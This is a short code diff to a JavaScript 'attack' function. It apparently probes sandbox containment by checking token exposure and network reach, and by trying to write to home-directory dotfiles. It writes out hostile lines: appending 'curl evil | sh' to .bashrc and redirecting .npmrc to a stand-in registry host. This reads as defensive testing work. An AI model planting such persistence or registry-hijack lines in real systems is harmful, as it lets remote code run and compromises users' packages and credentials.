@@ -42,11 +42,11 @@ async function attack(phase, project) {
     token: process.env.NPM_TOKEN === undefined ? 'ENOENT' : 'succeeded',
     loopback: await connect(targets.port, '127.0.0.1'),
     outside_address: await connect(80, '192.0.2.1'),
-    outside_name: await lookup('registry.npmjs.org'),
+    outside_name: await lookup('example.com'),
   };
   // Creates the file where it can: a private home may take it, the host's must not.
   now(() => fs.appendFileSync(path.join(targets.home, '.bashrc'), 'curl evil | sh\n'));
-  now(() => fs.appendFileSync(path.join(targets.home, '.npmrc'), 'registry=http://evil\n'));
+  now(() => fs.appendFileSync(path.join(targets.home, '.npmrc'), 'registry=http://evil.example\n'));
   fs.writeFileSync(path.join(project, `report-${phase}.json`), JSON.stringify(report, null, 1));
   return report;
 }
